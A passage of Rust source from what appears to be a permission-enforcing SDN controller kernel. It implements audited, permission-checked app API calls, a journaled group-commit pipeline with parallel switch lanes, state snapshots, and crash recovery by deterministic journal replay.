            .custom
            .get(topic)
            .cloned()
            .unwrap_or_default()
    }

    /// Subscribes an app to a custom topic (not permission-gated: topics are
    /// app-published data, mediated by the publishing app).
    pub fn subscribe_topic(&self, app: AppId, topic: &str) {
        if self.journal_attached.load(Ordering::Acquire) {
            let _ = self.submit(Command::SubscribeTopic {
                app,
                topic: topic.to_owned(),
            });
            return;
        }
        self.subscribe_topic_unjournaled(app, topic);
    }

    fn subscribe_topic_unjournaled(&self, app: AppId, topic: &str) {
        let mut subs = self.subs_write();
        let subs = subs.custom.entry(topic.to_owned()).or_default();
        if !subs.contains(&app) {
            subs.push(app);
        }
    }

    /// May this app read packet-in payloads (`read_payload`)? Always true on
    /// the monolithic baseline. The fan-out path uses this to pick between
    /// the shared full view and the shared stripped view of a packet-in
    /// instead of cloning a per-app event.
    pub(crate) fn payload_access_for(&self, app: AppId) -> bool {
        if !self.checks_enabled {
            return true;
        }
        self.engine_for(app)
            .is_some_and(|e| e.has_token(PermissionToken::ReadPayload))
    }

    /// Records packet-in payload provenance for a batch of deliveries under
    /// one tracker write lock (one epoch bump per `record_pkt_in`, exactly
    /// as the per-app [`Kernel::event_view_for`] would do, but without
    /// re-acquiring the lock per app per event).
    pub(crate) fn record_pkt_ins(&self, grants: &[(AppId, Bytes)]) {
        if grants.is_empty() {
            return;
        }
        if self.journal_attached.load(Ordering::Acquire) {
            let _ = self.submit(Command::RecordPktIns {
                grants: grants.to_vec(),
            });
            return;
        }
        self.record_pkt_ins_unjournaled(grants);
    }

    fn record_pkt_ins_unjournaled(&self, grants: &[(AppId, Bytes)]) {
        if grants.is_empty() {
            return;
        }
        self.tracker_mut(|tracker| {
            for (app, payload) in grants {
                tracker.record_pkt_in(*app, payload);
            }
        });
    }

    /// Prepares the per-app view of an event: strips packet-in payloads for
    /// apps without `read_payload`, and records payload provenance for those
    /// with it. Returns `None` if the app should not receive the event.
    pub fn event_view_for(&self, app: AppId, event: &Event) -> Option<Event> {
        match event {
            Event::PacketIn { dpid, packet_in } => {
                let can_read = if self.checks_enabled {
                    self.engine_for(app)
                        .is_some_and(|e| e.has_token(PermissionToken::ReadPayload))
                } else {
                    true
                };
                let mut pi = packet_in.clone();
                if can_read {
                    // Routed through the journaled seam: the provenance
                    // grant is a tracker mutation and must replay.
                    self.record_pkt_ins(&[(app, pi.payload.clone())]);
                } else {
                    pi.payload = Bytes::new();
                }
                Some(Event::PacketIn {
                    dpid: *dpid,
                    packet_in: pi,
                })
            }
            other => Some(other.clone()),
        }
    }

    /// Snapshot of the audit log (prefer [`Kernel::audit_records_since`]
    /// for repeated reads).
    pub fn audit_records(&self) -> Vec<crate::audit::AuditRecord> {
        self.audit.records()
    }

    /// Incremental audit read: records with sequence number greater than
    /// `since`, oldest first. A reader advancing its cursor to the last
    /// returned `seq` sees every record exactly once, without cloning the
    /// whole log on each poll.
    pub fn audit_records_since(&self, since: u64) -> Vec<crate::audit::AuditRecord> {
        self.audit.records_since(since)
    }

    /// The registered name of an app (diagnostics/forensics).
    pub fn app_name(&self, app: AppId) -> Option<String> {
        self.reg_read().app_names.get(&app).cloned()
    }

    /// Sends real bytes on an app's host connection, re-validating the
    /// destination against the app's `host_network` filter (so a filter
    /// narrowed after connect still applies).
    pub fn host_send(&self, app: AppId, conn: ConnId, data: Bytes) -> Result<(), ApiError> {
        if self.journal_attached.load(Ordering::Acquire) {
            let (outcome, _) = self.submit(Command::HostSend {
                app,
                conn: conn.0,
                data,
            });
            return outcome.into_ack();
        }
        self.host_send_unjournaled(app, conn, data)
    }

    fn host_send_unjournaled(&self, app: AppId, conn: ConnId, data: Bytes) -> Result<(), ApiError> {
        let dst = {
            let host = self.host_lock();
            let found = host
                .connections_by(app)
                .find(|c| c.id == conn)
                .map(|c| (c.dst_ip, c.dst_port));
            found
        };
        let Some((dst_ip, dst_port)) = dst else {
            return Err(ApiError::Switch(
                sdnshield_openflow::messages::OfError::BadRequest(
                    "unknown connection handle".into(),
                ),
            ));
        };
        if self.checks_enabled {
            let Some(engine) = self.engine_for(app) else {
                return Err(ApiError::PermissionDenied {
                    token: PermissionToken::HostNetwork,
                    reason: sdnshield_core::engine::DenyReason::MissingToken,
                });
            };
            let synthetic = ApiCall::new(app, ApiCallKind::HostConnect { dst_ip, dst_port });
            let decision =
                engine.check_with(&synthetic, self.context_epoch(), || self.tracker_read());
            if let Decision::Denied { .. } = decision {
                self.record_audit(
                    app,
                    "host_send",
                    PermissionToken::HostNetwork,
                    AuditOutcome::Denied,
                );
                return Err(ApiError::from_decision(decision));
            }
        }
        self.host_lock().send(app, conn, data);
        self.record_audit(
            app,
            "host_send",
            PermissionToken::HostNetwork,
            AuditOutcome::Allowed,
        );
        Ok(())
    }

    /// Bytes an app has sent to the outside world via the host network.
    pub fn bytes_exfiltrated_by(&self, app: AppId) -> usize {
        self.host_lock().bytes_exfiltrated_by(app)
    }

    /// Host connections opened by an app (forensics).
    pub fn connections_by(&self, app: AppId) -> Vec<crate::hostsys::Connection> {
        self.host_lock().connections_by(app).cloned().collect()
    }

    /// Frames received by a host NIC during the simulation.
    pub fn host_received(&self, mac: EthAddr) -> Vec<EthernetFrame> {
        self.host_inbox_lock()
            .get(&mac)
            .cloned()
            .unwrap_or_default()
    }

    /// Runs a closure with read access to the network (tests, benches).
    pub fn with_network<R>(&self, f: impl FnOnce(&Network) -> R) -> R {
        f(&self.network)
    }

    /// Number of flow entries currently installed on a switch, served from
    /// the network's RCU view without taking the switch lock.
    pub fn flow_count(&self, dpid: DatapathId) -> usize {
        self.network.flow_count(dpid).unwrap_or(0)
    }

    // ------------------------------------------------------------------
    // The deterministic command pipeline (DESIGN.md §12).
    // ------------------------------------------------------------------

    /// Attaches a command journal: every subsequent state-changing entry
    /// point is reified as a [`Command`], applied and appended under the
    /// commit lock. Attach AFTER any recovery replay has finished — replay
    /// must never re-append the records it is consuming.
    pub fn attach_journal(&self, journal: Arc<Journal>) {
        let _commit = self.commit.lock();
        let seq = journal
            .last_seq()
            .max(self.last_applied.load(Ordering::SeqCst));
        self.last_applied.store(seq, Ordering::SeqCst);
        *self.journal.lock() = Some(journal);
        self.journal_attached.store(true, Ordering::Release);
    }

    /// The attached journal, if any.
    pub fn journal(&self) -> Option<Arc<Journal>> {
        self.journal.lock().clone()
    }

    /// Sequence number of the last applied command (0 before any).
    pub fn last_applied(&self) -> u64 {
        self.last_applied.load(Ordering::SeqCst)
    }

    /// Fences this kernel: every later [`Kernel::submit`] is refused with
    /// [`ApiError::Shutdown`] instead of being applied. Locking and
    /// unlocking the commit mutex makes seal a barrier — by the time it
    /// returns, any in-flight submit has finished appending, so the journal
    /// holds every command whose reply was acknowledged. This is how
    /// failover fences the old primary before promoting the standby.
    pub fn seal(&self) {
        self.sealed.store(true, Ordering::SeqCst);
        drop(self.commit.lock());
    }

    /// Has this kernel been sealed?
    pub fn is_sealed(&self) -> bool {
        self.sealed.load(Ordering::SeqCst)
    }

    /// The single mutation seam, now a flat-combining group commit
    /// (DESIGN.md §16): an uncontended submitter takes the commit lock and
    /// applies inline, exactly like the pre-combining path. A contended
    /// submitter publishes its command into the slot ring and parks; the
    /// lock winner drains the ring and applies the whole batch under *one*
    /// lock acquisition with *one* amortized journal group-append, then
    /// hands each parked peer its `(CommandOutcome, events)` through its
    /// slot. Journal order remains identical to commit order, and every
    /// record's `audit_seq_after` watermark is still captured immediately
    /// after that command's audit records land — per-record exact, not
    /// batch-granular.
    pub fn submit(&self, cmd: Command) -> (CommandOutcome, Vec<OutboundEvent>) {
        self.combiner.submitted.fetch_add(1, Ordering::Relaxed);
        // Uncontended fast path: win the lock outright and become the
        // combiner for whatever contention arrives meanwhile.
        if let Some(guard) = self.commit.try_lock() {
            return self
                .combine(guard, Some(cmd), None)
                .expect("combiner always produces its own result");
        }
        // One yield, one retry, before committing to the slot protocol.
        // On an oversubscribed host a failed try_lock usually means the
        // holder was preempted mid-commit; handing it the core lets it
        // finish, and the retry takes the fast path — skipping a slot
        // publish and a cross-thread handoff for a one-syscall toll.
        std::thread::yield_now();
        if let Some(guard) = self.commit.try_lock() {
            return self
                .combine(guard, Some(cmd), None)
                .expect("combiner always produces its own result");
        }
        let slot = Arc::new(SubmitSlot::new(cmd));
        if self.submit_ring.push(Arc::clone(&slot)).is_err() {
            // Ring full: fall back to blocking on the commit lock like the
            // pre-combining path. The slot was never published, so the
            // command is still ours to take back.
            self.combiner.ring_fallbacks.fetch_add(1, Ordering::Relaxed);
            let cmd = slot
                .take_cmd()
                .expect("unpublished slot still holds its command");
            let guard = self.commit.lock();
            return self
                .combine(guard, Some(cmd), None)
                .expect("combiner always produces its own result");
        }
        self.wait_or_combine(slot)
    }

    /// A parked submitter's wait loop: take the result if a combiner left
    /// one, otherwise opportunistically become the combiner (the window
    /// where every previous combiner drained *before* our slot landed in
    /// the ring), otherwise park briefly and re-check. The timeout bounds
    /// the cost of any lost-wakeup window to one park interval.
    fn wait_or_combine(&self, slot: Arc<SubmitSlot>) -> (CommandOutcome, Vec<OutboundEvent>) {
        let spin_budget = submit_spin_budget();
        let mut spins = 0u32;
        loop {
            if let Some(done) = slot.try_take_done() {
                return done;
            }
            if let Some(guard) = self.commit.try_lock() {
                if let Some(done) = self.combine(guard, None, Some(&slot)) {
                    return done;
                }
                // Our slot was claimed by a previous combiner that has not
                // fulfilled it yet; spin briefly, then park until it does.
            }
            // Combiner drains are short — a yield usually hands the core
            // straight to the combiner (the whole win on few-core hosts,
            // where a futex sleep/wake round-trip per command would dwarf
            // the drain itself). Fall back to a timed park once yielding
            // has burned its budget so an unlucky schedule cannot spin hot.
            if spins < spin_budget {
                spins += 1;
                std::thread::yield_now();
            } else {
                slot.park(SUBMIT_PARK);
            }
        }
    }

    /// The combiner: drains the slot ring behind `own_cmd` (if any) and
    /// applies the whole batch under the held commit lock. Returns the
    /// caller's own result — always `Some` when `own_cmd` was supplied;
    /// when called with `own_slot` it is `Some` iff the slot's result
    /// became available during this drain.
    fn combine(
        &self,
        guard: MutexGuard<'_, ()>,
        own_cmd: Option<Command>,
        own_slot: Option<&Arc<SubmitSlot>>,
    ) -> Option<(CommandOutcome, Vec<OutboundEvent>)> {
        let had_own = own_cmd.is_some();
        // Batch entries: `(slot, cmd)` in commit order — our own command
        // first (it reached the lock first), then ring arrival order.
        let mut batch: Vec<(Option<Arc<SubmitSlot>>, Option<Command>)> = Vec::new();
        if let Some(cmd) = own_cmd {
            batch.push((None, Some(cmd)));
        }
        while let Some(peer) = self.submit_ring.pop() {
            if let Some(cmd) = peer.take_cmd() {
                batch.push((Some(peer), Some(cmd)));
            }
        }
        if batch.is_empty() {
            drop(guard);
            return own_slot.and_then(|s| s.try_take_done());
        }

        let n = batch.len();
        self.combiner.drains.fetch_add(1, Ordering::Relaxed);
        self.combiner
            .combined
            .fetch_add((n - usize::from(had_own)) as u64, Ordering::Relaxed);
        self.combiner.batch_hist[hist_bucket(n)].fetch_add(1, Ordering::Relaxed);
        self.combiner
            .max_batch
            .fetch_max(n as u64, Ordering::Relaxed);

        let sealed = self.sealed.load(Ordering::SeqCst);
        let journaling = self.journal_attached.load(Ordering::Acquire);
        let mut results: Vec<Option<(CommandOutcome, Vec<OutboundEvent>)>> = Vec::new();
        results.resize_with(n, || None);
        let mut entries: Vec<(u64, u64, Command)> = Vec::new();

        if sealed {
            for (i, (_, cmd)) in batch.iter().enumerate() {
                let cmd = cmd.as_ref().expect("unapplied entry holds its command");
                results[i] = Some((CommandOutcome::sealed_for(cmd), Vec::new()));
            }
        } else {
            self.apply_batch(&mut batch, journaling, &mut results, &mut entries);
        }

        if !entries.is_empty() {
            if let Some(journal) = self.journal.lock().as_ref() {
                if entries.len() == 1 {
                    // Uncontended drains keep the pre-combining single-record
                    // append (no batch bookkeeping on the journal side).
                    let (seq, seen, cmd) = entries.pop().expect("length checked");
                    journal.append(seq, seen, cmd);
                } else {
                    journal.append_batch(entries);
                }
            }
        }
        // Fulfill parked peers *before* releasing the commit lock: seal()'s
        // lock/unlock barrier then guarantees every acknowledged command is
        // already journaled when promote() proceeds.
        let mut own_result = None;
        for ((peer, _), result) in batch.into_iter().zip(results) {
            let result = result.expect("every batch entry was resolved");
            match peer {
                Some(peer) => peer.fulfill(result),
                None => own_result = Some(result),
            }
        }
        drop(guard);
        match own_slot {
            Some(slot) => slot.try_take_done(),
            None => own_result,
        }
    }

    /// Applies a drained batch in commit order. Contiguous runs of
    /// lane-eligible flow-mod calls fan out across the single-writer switch
    /// lanes; everything else applies serially via `apply_command`. Each
    /// entry's journal tuple captures `audit.seen()` immediately after its
    /// own audit records land, keeping per-record watermarks exact.
    fn apply_batch(
        &self,
        batch: &mut [(Option<Arc<SubmitSlot>>, Option<Command>)],
        journaling: bool,
        results: &mut [Option<(CommandOutcome, Vec<OutboundEvent>)>],
        entries: &mut Vec<(u64, u64, Command)>,
    ) {
        let lanes = self.lanes.lock();
        let n = batch.len();
        let mut i = 0;
        while i < n {
            // Open a lane-parallel run at `i` when lanes are configured and
            // at least two consecutive entries are eligible.
            if let Some(pool) = lanes.as_ref() {
                let mut plans = Vec::new();
                let mut j = i;
                while j < n {
                    let cmd = batch[j].1.as_ref().expect("unapplied entry");
                    match self.lane_plan(cmd) {
                        Some(p) => {
                            plans.push(p);
                            j += 1;
                        }
                        None => break,
                    }
                }
                if plans.len() >= 2 {
                    let outs = self.apply_flow_run(pool, &batch[i..j], plans);
                    for (k, out) in outs.into_iter().enumerate() {
                        let idx = i + k;
                        self.finish_entry(
                            &mut batch[idx],
                            out,
                            journaling,
                            &mut results[idx],
                            entries,
                        );
                    }
                    i = j;
                    continue;
                }
            }
            let cmd = batch[i].1.as_ref().expect("unapplied entry");
            let out = self.apply_command(cmd);
            self.finish_entry(&mut batch[i], out, journaling, &mut results[i], entries);
            i += 1;
        }
    }

    /// Assigns the next commit sequence to one applied batch entry, queues
    /// its journal tuple (moving the command out of the batch), and stores
    /// its result.
    fn finish_entry(
        &self,
        entry: &mut (Option<Arc<SubmitSlot>>, Option<Command>),
        out: (CommandOutcome, Vec<OutboundEvent>),
        journaling: bool,
        result: &mut Option<(CommandOutcome, Vec<OutboundEvent>)>,
        entries: &mut Vec<(u64, u64, Command)>,
    ) {
        let seq = self.last_applied.load(Ordering::SeqCst) + 1;
        self.last_applied.store(seq, Ordering::SeqCst);
        if journaling {
            let cmd = entry.1.take().expect("entry journaled once");
            entries.push((seq, self.audit.seen(), cmd));
        }
        *result = Some(out);
    }

    /// Is this command eligible for the single-writer switch lanes? Only a
    /// plain flow-mod call whose permission decision is a pure function of
    /// the call itself (call-only plan — or checks disabled) and whose app
    /// has no virtual topology qualifies; anything else closes the run and
    /// applies serially. Returns the fully precomputed plan so the run
    /// applier never re-decides.
    fn lane_plan(&self, cmd: &Command) -> Option<FlowLanePlan> {
        let Command::Call(call) = cmd else {
            return None;
        };
        let (dpid, flow_mod) = match &call.kind {
            ApiCallKind::InsertFlow { dpid, flow_mod }
            | ApiCallKind::DeleteFlow { dpid, flow_mod } => (*dpid, flow_mod),
            _ => return None,
        };
        if self.vtopo_for(call.app).is_some() {
            return None;
        }
        let denied = if self.checks_enabled {
            // A missing engine takes the serial path (it audits nothing);
            // a stateful decision plan also bails — the deputy path decides
            // those against a live tracker view.
            let engine = self.engine_for(call.app)?;
            let decision = engine.check_call_only(call, self.context_epoch())?;
            match decision {
                Decision::Denied { .. } => Some(ApiError::from_decision(decision)),
                _ => None,
            }
        } else {
            None
        };
        let stamped = denied.is_none().then(|| stamp_cookie(call.app, flow_mod));
        Some(FlowLanePlan {
            app: call.app,
            kind_name: call.kind.name(),
            token: call.required_token(),
            dpid,
            stamped,
            denied,
        })
    }

    /// Applies one lane-parallel run: switch mutations fan out to each
    /// dpid's home lane (same-dpid order preserved by lane FIFO), then
    /// ownership records, audit records, and outcomes are produced in the
    /// run's original commit order — byte-for-byte the artifacts the serial
    /// path would have produced, in the same per-command order. The RCU
    /// switch views touched by the run are republished once at the end of
    /// the group instead of per op.
    fn apply_flow_run(
        &self,
        pool: &LanePool,
        run: &[(Option<Arc<SubmitSlot>>, Option<Command>)],
        plans: Vec<FlowLanePlan>,
    ) -> Vec<(CommandOutcome, Vec<OutboundEvent>)> {
        let n = plans.len();
        self.combiner.lane_runs.fetch_add(1, Ordering::Relaxed);
        // Phase 1: traces in commit order (decisions were precomputed —
        // call-only plans are pure functions of the call), allowed mods
        // dispatched to their home lanes.
        let mut applied: Vec<Option<LaneApply>> = Vec::new();
        applied.resize_with(n, || None);
        let mut jobs = 0usize;
        for (k, plan) in plans.iter().enumerate() {
            if let Some(Command::Call(call)) = run[k].1.as_ref() {
                self.trace_decision(call, plan.denied.is_none(), "deputy");
            }
            if let Some(stamped) = plan.stamped.as_ref() {
                pool.dispatch(k, plan.dpid, stamped.clone());
                jobs += 1;
            }
        }
        self.combiner
            .lane_jobs
            .fetch_add(jobs as u64, Ordering::Relaxed);
        self.combiner
            .max_lane_run
            .fetch_max(jobs as u64, Ordering::Relaxed);
        // Phase 2: barrier — collect every lane result for this run.
        pool.collect(jobs, &mut applied);
        // Phase 3a: ownership records for successful mods, in commit order,
        // under one tracker write acquisition (amortizing the write lock
        // the serial path takes once per mod).
        let any_ok = plans
            .iter()
            .zip(&applied)
            .any(|(p, a)| p.stamped.is_some() && matches!(a, Some(Ok(_))));
        if any_ok {
            self.tracker_mut(|t| {
                for (plan, outcome) in plans.iter().zip(&applied) {
                    if let (Some(stamped), Some(Ok(_))) = (plan.stamped.as_ref(), outcome) {
                        t.record_flow_mod(plan.app, plan.dpid, stamped);
                    }
                }
            });
        }
        // Phase 3b: audits + outcomes in commit order. The per-command
        // audit stream is exactly what the serial path emits.
        let mut outs = Vec::with_capacity(n);
        let mut touched: Vec<DatapathId> = Vec::new();
        for (plan, outcome) in plans.into_iter().zip(applied) {
            if let Some(denied) = plan.denied {
                self.record_audit(plan.app, plan.kind_name, plan.token, AuditOutcome::Denied);
                outs.push((CommandOutcome::Api(Err(denied)), Vec::new()));
                continue;
            }
            match outcome.expect("allowed plan was dispatched") {
                Ok(removed) => {
                    touched.push(plan.dpid);
                    self.record_audit(plan.app, plan.kind_name, plan.token, AuditOutcome::Allowed);
                    outs.push((
                        CommandOutcome::Api(Ok(ApiResponse::Unit)),
                        removed_events(plan.dpid, &removed),
                    ));
                }
                Err(e) => {
                    self.record_audit(plan.app, plan.kind_name, plan.token, AuditOutcome::Failed);
                    outs.push((CommandOutcome::Api(Err(ApiError::Switch(e))), Vec::new()));
                }
            }
        }
        // Batched RCU republish: one view rebuild per touched switch per
        // drained group, so trailing readers don't each pay the rebuild.
        touched.sort_unstable();
        touched.dedup();
        self.network.publish_views(touched);
        outs
    }

    /// Configures the single-writer switch lanes (0 disables them). `pin`
    /// additionally pins each lane thread to a core, best-effort.
    pub fn set_switch_lanes(&self, lanes: usize, pin: bool) {
        let pool = (lanes > 0).then(|| LanePool::new(Arc::clone(&self.network), lanes, pin));
        *self.lanes.lock() = pool;
    }

    /// Snapshot of the group-commit write pipeline's counters.
    pub fn combiner_stats(&self) -> CombinerStats {
        let c = &self.combiner;
        let mut batch_hist = [0u64; 8];
        for (slot, counter) in batch_hist.iter_mut().zip(&c.batch_hist) {
            *slot = counter.load(Ordering::Relaxed);
        }
        CombinerStats {
            submitted: c.submitted.load(Ordering::Relaxed),
            drains: c.drains.load(Ordering::Relaxed),
            combined: c.combined.load(Ordering::Relaxed),
            ring_fallbacks: c.ring_fallbacks.load(Ordering::Relaxed),
            batch_hist,
            max_batch: c.max_batch.load(Ordering::Relaxed),
            ring_depth: self.submit_ring.len(),
            ring_capacity: self.submit_ring.capacity(),
            lane_jobs: c.lane_jobs.load(Ordering::Relaxed),
            lane_runs: c.lane_runs.load(Ordering::Relaxed),
            max_lane_run: c.max_lane_run.load(Ordering::Relaxed),
            lanes: self.lanes.lock().as_ref().map_or(0, LanePool::lane_count),
        }
    }

    /// Dispatches a command to its (unjournaled) handler. Pure function of
    /// kernel state plus the command: no wall clock, no randomness — the
    /// determinism the whole recovery story rests on.
    fn apply_command(&self, cmd: &Command) -> (CommandOutcome, Vec<OutboundEvent>) {
        match cmd {
            Command::RegisterApp {
                app,
                name,
                manifest,
            } => {
                let result = match sdnshield_core::lang::parse_manifest(manifest) {
                    Ok(set) => {
                        // Lint per the (snapshot-restored) runtime flag, so
                        // replaying a lint-rejected registration re-derives
                        // the same rejection.
                        let lint = self
                            .lint_on_register
                            .load(std::sync::atomic::Ordering::SeqCst);
                        self.register_app_unjournaled(*app, name, &set, manifest, lint)
                    }
                    Err(e) => Err(ApiError::ManifestRejected(e.to_string())),
                };
                (CommandOutcome::Ack(result), Vec::new())
            }
            Command::DeregisterApp { app } => {
                let events = self.deregister_app_unjournaled(*app);
                (CommandOutcome::Ack(Ok(())), events)
            }
            Command::Call(call) => {
                let (result, events) = self.execute_unjournaled(call);
                (CommandOutcome::Api(result), events)
            }
            Command::Transaction { app, ops } => {
                let (result, events) = self.run_atomic(*app, ops, "transaction");
                (CommandOutcome::Api(result), events)
            }
            Command::Batch { app, ops } => {
                let (result, events) = self.run_atomic(*app, ops, "batch");
                (CommandOutcome::Api(result), events)
            }
            Command::PacketOuts { app, outs } => {
                let (result, events) = self.execute_packet_outs_unjournaled(*app, outs);
                (CommandOutcome::Count(result), events)
            }
            Command::HostSend { app, conn, data } => {
                let result = self.host_send_unjournaled(*app, ConnId(*conn), data.clone());
                (CommandOutcome::Ack(result), Vec::new())
            }
            Command::SubscribeTopic { app, topic } => {
                self.subscribe_topic_unjournaled(*app, topic);
                (CommandOutcome::Ack(Ok(())), Vec::new())
            }
            Command::AdvanceClock { secs } => (
                CommandOutcome::Ack(Ok(())),
                self.advance_clock_unjournaled(*secs),
            ),
            Command::FailLink { a, b } => {
                let ev = self.fail_link_unjournaled(*a, *b);
                (CommandOutcome::Ack(Ok(())), ev.into_iter().collect())
            }
            Command::InjectHostFrame { frame } => (
                CommandOutcome::Ack(Ok(())),
                self.inject_host_frame_unjournaled(frame.clone()),
            ),
            Command::RecordPktIns { grants } => {
                self.record_pkt_ins_unjournaled(grants);
                (CommandOutcome::Ack(Ok(())), Vec::new())
            }
        }
    }

    /// Applies journal records in order, skipping any with `seq` at or
    /// below [`Kernel::last_applied`] — idempotent replay keyed by command
    /// sequence, so a record delivered twice (recovery then catch-up, say)
    /// is applied exactly once. Audit records re-derived during replay are
    /// tagged `replay:`. Returns how many records were applied.
    pub fn replay_records(&self, records: &[JournalRecord]) -> usize {
        let _commit = self.commit.lock();
        self.replaying.store(true, Ordering::SeqCst);
        let mut applied = 0;
        for rec in records {
            if rec.seq <= self.last_applied.load(Ordering::SeqCst) {
                continue;
            }
            let _ = self.apply_command(&rec.cmd);
            self.last_applied.store(rec.seq, Ordering::SeqCst);
            applied += 1;
        }
        self.replaying.store(false, Ordering::SeqCst);
        applied
    }

    /// Serializes the kernel's entire mutable state. Taken under the commit
    /// lock, so the image is a consistent cut: no command is half-included.
    /// The result doubles as the equivalence digest the differential
    /// recovery tests compare ([`KernelSnapshot::state_eq`]).
    pub fn snapshot(&self) -> KernelSnapshot {
        let _commit = self.commit.lock();
        // Subsystems are read strictly one at a time in hierarchy order —
        // the commit lock already excludes writers, so sequential reads
        // still form a consistent cut.
        let apps = {
            let reg = self.reg_read();
            let mut apps: Vec<(AppId, String, String)> = reg
                .app_names
                .iter()
                .map(|(id, name)| {
                    (
                        *id,
                        name.clone(),
                        reg.manifests.get(id).cloned().unwrap_or_default(),
                    )
                })
                .collect();
            apps.sort_by_key(|(id, _, _)| *id);
            apps
        };
        let (subs_by_kind, subs_custom) = {
            let subs = self.subs_read();
            (
                subs.by_kind
                    .iter()
                    .map(|(k, v)| ((*k).to_owned(), v.clone()))
                    .collect(),
                subs.custom
                    .iter()
                    .map(|(k, v)| (k.clone(), v.clone()))
                    .collect(),
            )
        };
        let tracker = self.tracker_read().snapshot();
        let (links, mut dpids) = {
            let topo = self.network.topology();
            let links: Vec<(DatapathId, DatapathId)> =
                topo.link_ids().into_iter().map(|l| (l.0, l.1)).collect();
            let dpids: Vec<DatapathId> = topo.switches().map(|s| s.dpid).collect();
            (links, dpids)
        };
        dpids.sort_unstable();
        let mut switches = Vec::with_capacity(dpids.len());
        for dpid in dpids {
            if let Some(sw) = self.network.switch(dpid) {
                let stats = sw.table().table_stats();
                switches.push(SwitchSnapshot {
                    dpid,
                    entries: sw.table().iter().cloned().collect(),
                    lookup_count: stats.lookup_count,
                    matched_count: stats.matched_count,
                    port_stats: sw.port_stats().cloned().collect(),
                });
            }
        }
        let host = self.host_lock().snapshot();
        let host_inbox = self
            .host_inbox_lock()
            .iter()
            .map(|(mac, frames)| (*mac, frames.clone()))
            .collect();
        KernelSnapshot {
            last_seq: self.last_applied.load(Ordering::SeqCst),
            audit_seq: self.audit.seen(),
            clock: self.network.now(),
            checks_enabled: self.checks_enabled,
            absorb_packet_outs: self
                .absorb_packet_outs
                .load(std::sync::atomic::Ordering::SeqCst),
            lint_on_register: self
                .lint_on_register
                .load(std::sync::atomic::Ordering::SeqCst),
            registry_epoch: self
                .registry_epoch
                .load(std::sync::atomic::Ordering::SeqCst),
            apps,
            subs_by_kind,
            subs_custom,
            tracker,
            links,
            switches,
            host,
            host_inbox,
        }
    }

    /// Rebuilds a kernel from a snapshot, then replays the journal suffix
    /// after it (`seq > snapshot.last_seq`) — the crash-recovery restart
    /// path. `network` must be a FRESH simulation built from the same
    /// topology blueprint the crashed kernel ran on (same switches, hosts,
    /// table capacity); recovery prunes the links the snapshot recorded as
    /// failed and overwrites per-switch state on top.
    ///
    /// The journal is NOT attached: replay must never re-append the records
    /// it consumes. Attach it afterwards with [`Kernel::attach_journal`] if
    /// the recovered kernel should keep journaling.
    pub fn recover(network: Network, snapshot: &KernelSnapshot, journal: &Journal) -> Kernel {
        let kernel = Kernel::new(network, snapshot.checks_enabled);
        kernel.set_absorb_packet_outs(snapshot.absorb_packet_outs);
        kernel.set_lint_on_register(snapshot.lint_on_register);
        kernel.network.set_clock(snapshot.clock);
        // Prune links that had already failed by snapshot time.
        let fresh: Vec<(DatapathId, DatapathId)> = kernel
            .network
            .topology()
            .link_ids()
            .into_iter()
            .map(|l| (l.0, l.1))
            .collect();
        for (a, b) in fresh {
            let survived = snapshot
                .links
                .iter()
                .any(|&(x, y)| (x, y) == (a, b) || (y, x) == (a, b));
            if !survived {
                kernel.network.with_topology_mut(|t| t.remove_link(a, b));
            }
        }
        // Re-register apps from canonical manifest text, recompiling the
        // identical engines. No lint: these manifests were admitted before
        // the crash.
        for (app, name, text) in &snapshot.apps {
            if let Ok(set) = sdnshield_core::lang::parse_manifest(text) {
                let _ = kernel.register_app_unjournaled(*app, name, &set, text, false);
            }
        }
        kernel
            .registry_epoch
            .store(snapshot.registry_epoch, std::sync::atomic::Ordering::SeqCst);
        {
            let mut subs = kernel.subs_write();
            subs.by_kind.clear();
            for (kind, list) in &snapshot.subs_by_kind {
                if let Some(k) = static_kind(kind) {
                    subs.by_kind.insert(k, list.clone());
                }
            }
            subs.custom.clear();
            for (topic, list) in &snapshot.subs_custom {
                subs.custom.insert(topic.clone(), list.clone());
            }
        }
        kernel.tracker_mut(|tracker| *tracker = OwnershipTracker::restore(&snapshot.tracker));
        for sw in &snapshot.switches {
            if let Some(mut s) = kernel.network.switch(sw.dpid) {
                s.restore_state(
                    sw.entries.clone(),
                    sw.lookup_count,
                    sw.matched_count,
                    sw.port_stats.clone(),
                );
            }
        }
        *kernel.host_lock() = HostSystem::restore(&snapshot.host);
        {
            let mut inbox = kernel.host_inbox_lock();
            inbox.clear();
            for (mac, frames) in &snapshot.host_inbox {
                inbox.insert(*mac, frames.clone());
            }
        }
        // Seed audit numbering at the watermark of the last durable record
        // (or the snapshot's, when the suffix is empty): replayed audit
        // records extend the sequence from there under `replay:` tags, and
        // pre-crash cursors resume without reading the renumbering as loss.
        let suffix = journal.records_since(snapshot.last_seq);
        let audit_watermark = suffix
            .last()
            .map_or(snapshot.audit_seq, |r| r.audit_seq_after);
        kernel.audit.seed(audit_watermark);
        kernel
            .last_applied
            .store(snapshot.last_seq, Ordering::SeqCst);
        kernel.replay_records(&suffix);
        kernel
    }

    /// Replays a recorded command trace onto a fresh kernel — the
    /// record/replay debugging path: a trace captured from a crashed run
    /// re-executes deterministically on the virtual clock as a
    /// single-threaded unit test. Audit records carry `replay:` tags.
    pub fn replay_trace(network: Network, checks_enabled: bool, trace: &[JournalRecord]) -> Kernel {
        let kernel = Kernel::new(network, checks_enabled);
        kernel.replay_records(trace);
        kernel
    }

    /// Applies an already-authorized call.
    fn apply(&self, call: &ApiCall) -> (Result<ApiResponse, ApiError>, Vec<OutboundEvent>) {
        let app = call.app;
        match &call.kind {
            ApiCallKind::ReadFlowTable { dpid, query } => {
                let reply = match self
                    .network
                    .stats(*dpid, &StatsRequest::Flow(query.clone()))
                {
                    Ok(r) => r,
                    Err(e) => return (Err(ApiError::Switch(e)), Vec::new()),
                };
                let StatsReply::Flow(entries) = reply else {
                    unreachable!("flow request yields flow reply");
                };
                let visible = if self.checks_enabled {
                    let engine = self.engine_for(app);
                    entries
                        .into_iter()
                        .filter(|e| {
                            engine.as_ref().is_some_and(|engine| {
                                engine.entry_visible(
                                    PermissionToken::ReadFlowTable,
                                    &e.flow_match,
                                    *dpid,
                                    e.cookie.owner() == app.0,
                                )
                            })
                        })
                        .collect()
                } else {
                    entries
                };
                (Ok(ApiResponse::FlowEntries(visible)), Vec::new())
            }
            ApiCallKind::InsertFlow { dpid, flow_mod }
            | ApiCallKind::DeleteFlow { dpid, flow_mod } => self.apply_flow(app, *dpid, flow_mod),
            ApiCallKind::ReadTopology => {
                let view = self.topology_view_for(app);
